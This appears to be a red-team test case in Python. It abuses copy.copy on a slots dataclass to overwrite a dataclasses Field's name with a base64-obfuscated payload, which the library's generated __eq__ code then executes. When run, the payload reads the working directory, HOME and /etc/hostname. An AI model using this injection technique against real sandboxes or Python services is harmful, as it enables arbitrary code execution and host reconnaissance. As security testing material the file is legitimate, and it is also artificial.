# family: red team, round 52a (copy.copy of a slots dataclass with a field "name" whose __new__ hands back a live Field: copy sets its slot on the Field)
import base64
import copy
import dataclasses

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


box = []


@dataclasses.dataclass(slots=True)
class Sneaky:
    name: str

    def __new__(cls, *args):
        if box:
            return box[0]
        return object.__new__(cls)


def main():
    s = Sneaky(base64.b64decode(CODE).decode())
    box.append(dataclasses.fields(A)[0])
    copy.copy(s)

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
